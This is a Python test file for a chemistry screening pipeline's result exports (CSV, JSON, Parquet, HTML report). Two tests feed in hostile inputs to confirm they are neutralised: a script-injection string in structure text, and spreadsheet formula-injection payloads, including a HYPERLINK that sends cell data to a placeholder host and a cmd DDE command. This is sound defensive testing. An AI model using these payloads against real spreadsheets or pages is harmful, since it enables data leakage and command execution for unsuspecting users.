import csv
import io
import json

from omtx.aggregation import Spool
from omtx.domain import Job, JobStatus


def make_job(index: int, status: JobStatus, **metrics) -> Job:
    return Job(
        job_id=f"j{index}",
        batch_id="b1",
        index=index,
        shard=0,
        ligand_name=f"lig-{index}",
        smiles="CCO",
        canonical_smiles="CCO",
        inchikey="LFQSCWFLJHTTHZ-UHFFFAOYSA-N",
        input_hash="h",
        status=status,
        metrics=metrics,
        error=None if status == JobStatus.SUCCEEDED else "embedding failed",
        result_uri=f"gs://r/batches/b1/jobs/j{index}/results.json",
    )


def jobs():
    return [
        make_job(0, JobStatus.SUCCEEDED, qed=0.5, mw=100.0, inchikey="from-model"),
        make_job(1, JobStatus.FAILED),
        make_job(2, JobStatus.SUCCEEDED, qed=0.9, mw=300.0, lipinski_pass=True),
    ]


def export(spool, tmp_path, header=None, table=None):
    outs = [io.StringIO(), table or io.StringIO(), io.StringIO()]
    spool.export(header or {"batch_id": "b1"}, *outs, tmp_path / "out.parquet")
    aggregated, index = outs[0].getvalue(), outs[2].getvalue()
    return json.loads(aggregated), table or outs[1].getvalue(), json.loads(index), tmp_path / "out.parquet"


def test_csv_has_every_metric_column_and_one_row_per_job(tmp_path):
    spool = Spool(tmp_path / "rows.jsonl").fill(jobs())
    _, table, _, _ = export(spool, tmp_path)
    rows = list(csv.DictReader(io.StringIO(table)))
    assert [r["job_id"] for r in rows] == ["j0", "j1", "j2"]
    assert spool.columns[-2:] == ["result_uri", "files"]
    assert {"qed", "mw", "lipinski_pass", "metric.inchikey"} <= set(spool.columns)
    assert rows[0]["inchikey"] == "LFQSCWFLJHTTHZ-UHFFFAOYSA-N"  # the job's value wins over the model's
    assert rows[0]["metric.inchikey"] == "from-model"
    assert rows[1]["error"] == "embedding failed" and rows[1]["qed"] == ""


def test_json_and_job_index_are_valid_documents(tmp_path):
    spool = Spool(tmp_path / "rows.jsonl").fill(jobs())
    doc, _, index, _ = export(spool, tmp_path, {"batch_id": "b1", "total": 3})
    assert doc["batch_id"] == "b1" and doc["total"] == 3
    assert [j["index"] for j in doc["jobs"]] == [0, 1, 2]
    assert doc["columns"] == spool.columns
    assert index["jobs"][1] == {
        "index": 1,
        "job_id": "j1",
        "ligand_name": "lig-1",
        "status": "failed",
        "result_uri": "gs://r/batches/b1/jobs/j1/results.json",
    }


def test_an_empty_batch_exports_valid_files(tmp_path):
    import pyarrow.parquet as pq

    doc, table, index, parquet = export(Spool(tmp_path / "rows.jsonl").fill([]), tmp_path)
    assert doc["jobs"] == [] and index["jobs"] == [] and table.count("\n") == 1
    assert pq.read_table(parquet).num_rows == 0


def test_stats_cover_succeeded_jobs_only(tmp_path):
    spool = Spool(tmp_path / "rows.jsonl").fill(jobs())
    stats = spool.metric_stats()
    assert stats["qed"] == {"n": 2, "mean": 0.7, "min": 0.5, "q1": 0.6, "median": 0.7, "q3": 0.8, "max": 0.9}
    assert "lipinski_pass" not in stats  # booleans are flags, not numbers
    assert spool.status_counts == {"succeeded": 2, "failed": 1}


def test_reproducibility_record_on_every_row(tmp_path):
    repro = {"model": "m", "model_version": "v1", "params": '{"seed": 3}', "seed": 3}
    spool = Spool(tmp_path / "rows.jsonl").fill(jobs(), repro)
    for row in spool.rows():
        assert row["model"] == "m" and row["seed"] == 3 and row["input_hash"] == "h"


def test_best_and_worst_by_primary_metric(tmp_path):
    many = [make_job(i, JobStatus.SUCCEEDED, score=float(i % 13)) for i in range(40)]
    spool = Spool(tmp_path / "rows.jsonl", primary_metric="score").fill(many)
    assert [b["score"] for b in spool.best()] == [12.0, 12.0, 12.0, 11.0, 11.0]
    assert [b["index"] for b in spool.best()][:3] == [12, 25, 38]  # ties: lower index first
    assert [w["score"] for w in spool.worst()] == [0.0, 0.0, 0.0, 0.0, 1.0]
    lower = Spool(tmp_path / "rows2.jsonl", primary_metric="score", higher_is_better=False).fill(many)
    assert lower.best()[0]["score"] == 0.0


def test_parquet_has_typed_columns(tmp_path):
    import pyarrow.parquet as pq

    spool = Spool(tmp_path / "rows.jsonl").fill(
        jobs(), {"model": "m", "model_version": "v", "params": "{}", "seed": None}
    )
    *_, path = export(spool, tmp_path)
    table = pq.read_table(path)
    assert table.num_rows == 3
    assert str(table.schema.field("qed").type) == "double"
    assert str(table.schema.field("lipinski_pass").type) == "bool"
    assert str(table.schema.field("index").type) == "int64"
    assert table.column("qed").to_pylist() == [0.5, None, 0.9]


def test_report_is_self_contained(tmp_path):
    from omtx.report.html import THREE_DMOL, Structure, render

    spool = Spool(tmp_path / "rows.jsonl", primary_metric="qed").fill(jobs())
    sdf = (
        "x\n  RDKit 3D\n\n  1  0  0  0  0  0  0  0  0  0999 V2000\n"
        "    0.0000    0.0000    0.0000 C   0  0\nM  END\n$$$$\n"
    )
    header = {
        "batch_id": "b1",
        "name": "<screen>",
        "model": "m",
        "model_version": "v",
        "status": "completed",
        "succeeded": 2,
        "failed": 1,
        "total": 3,
        "primary_metric": "qed",
        "higher_is_better": True,
    }
    page = render(header, spool.metric_stats(), spool.best(25), spool.values("qed"), [Structure("best", "sdf", sdf)])
    assert "&lt;screen&gt;" in page and "<screen>" not in page  # escaped
    assert "<svg" in page and 'data-structure="s0"' in page and THREE_DMOL in page
    # Nothing to fetch: the only URLs are in 3Dmol's code (PDB-download helpers the viewer never calls,
    # and which the policy would block)
    assert "http://" not in page.replace(THREE_DMOL, "") and "https://" not in page.replace(THREE_DMOL, "")
    assert page.index("lig-2") < page.index("lig-0")  # best first
    without = render(header, spool.metric_stats(), spool.best(25), spool.values("qed"), [])
    assert THREE_DMOL not in without and "No structures were produced" in without  # no viewer without structures


def test_structure_text_survives_the_page_exactly(tmp_path):
    """mmCIF quotes names ('CCD Core', O5'): the JSON block the viewer reads gives back the exact
    text, and a structure holding `</script>` cannot end the block."""
    import re

    from omtx.report.html import Structure, render

    text = "data_x\n_chem_comp.name 'L-peptide linking' O5' & </script><script>window.pwned=1</script>\n"
    header = {"batch_id": "b", "model": "m", "model_version": "v", "status": "completed"}
    header |= {"succeeded": 1, "failed": 0, "total": 1, "primary_metric": "qed"}
    page = render(header, {}, [], [], [Structure("t", "cif", text)])
    block = re.search(r'<script type="application/json" id="s0">(.*?)</script>', page, re.S)
    assert block is not None and json.loads(block.group(1))["text"] == text


def test_flags_are_counted_and_kept_fields_ride_with_the_best(tmp_path):
    spool = Spool(tmp_path / "rows.jsonl", primary_metric="qed", keep=("pb_valid", "pb_failed")).fill(
        [
            make_job(0, JobStatus.SUCCEEDED, qed=0.5, pb_valid=True, pb_failed=[]),
            make_job(1, JobStatus.SUCCEEDED, qed=0.7, pb_valid=False, pb_failed=["bond_lengths"]),
            make_job(2, JobStatus.SUCCEEDED, qed=0.9, pb_valid=True, pb_failed=[]),
            make_job(3, JobStatus.FAILED),  # no pose: not in the fraction
        ]
    )
    assert spool.flag_counts()["pb_valid"] == {"n": 3, "true": 2, "fraction_true": 0.6667}
    assert "pb_valid" not in spool.metric_stats()  # flags are counted, not averaged
    best = spool.best()
    assert [(b["index"], b["pb_valid"], b["pb_failed"]) for b in best] == [
        (2, True, []),
        (1, False, ["bond_lengths"]),
        (0, True, []),
    ]


def test_pose_check_columns_are_typed_in_parquet(tmp_path):
    import pyarrow.parquet as pq

    spool = Spool(tmp_path / "rows.jsonl").fill(
        [
            make_job(0, JobStatus.SUCCEEDED, vina_score=-7.0, pb_valid=True, pb_failed=[]),
            make_job(
                1, JobStatus.SUCCEEDED, vina_score=-6.0, pb_valid=False, pb_failed=["volume_overlap_with_protein"]
            ),
            make_job(2, JobStatus.FAILED),
        ]
    )
    *_, path = export(spool, tmp_path)
    table = pq.read_table(path)
    assert str(table.schema.field("pb_valid").type) == "bool"  # a plain boolean column to filter on
    assert table.column("pb_valid").to_pylist() == [True, False, None]
    assert [json.loads(v) if v else v for v in table.column("pb_failed").to_pylist()] == [
        [],
        ["volume_overlap_with_protein"],
        None,
    ]


FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", '+cmd|" /C calc"!A0', "-2+3", "\tx", "\rx"]


def test_csv_cells_that_excel_would_run_open_as_text_and_names_stay_utf8(tmp_path):
    """The bytes a chemist's Excel opens: a byte-order mark (so UTF-8 names show right), formula
    starts neutralised with an apostrophe, numbers (negative ones too) left as numbers; the
    JSON and Parquet exports keep the raw names."""
    import pyarrow.parquet as pq

    from omtx import spreadsheet

    names = [*FORMULAS, "β-Lapachone Ωmega", "naïve (−)-epicatechin"]
    spool = Spool(tmp_path / "rows.jsonl").fill(
        make_job(i, JobStatus.SUCCEEDED, vina_score=-7.25).model_copy(update={"ligand_name": n})
        for i, n in enumerate(names)
    )
    csv_path = tmp_path / "batch_results.csv"
    with csv_path.open("w", newline="", encoding=spreadsheet.ENCODING) as table:
        doc, _, _, parquet = export(spool, tmp_path, table=table)
    raw = csv_path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [r["ligand_name"] for r in rows] == ["'" + f for f in FORMULAS] + names[-2:]
    assert all(not r["ligand_name"].startswith(spreadsheet.FORMULA_STARTS) for r in rows)
    assert {r["vina_score"] for r in rows} == {"-7.25"}
    assert "β-Lapachone Ωmega".encode() in raw
    assert [j["ligand_name"] for j in doc["jobs"]] == names
    assert pq.read_table(parquet).column("ligand_name").to_pylist() == names
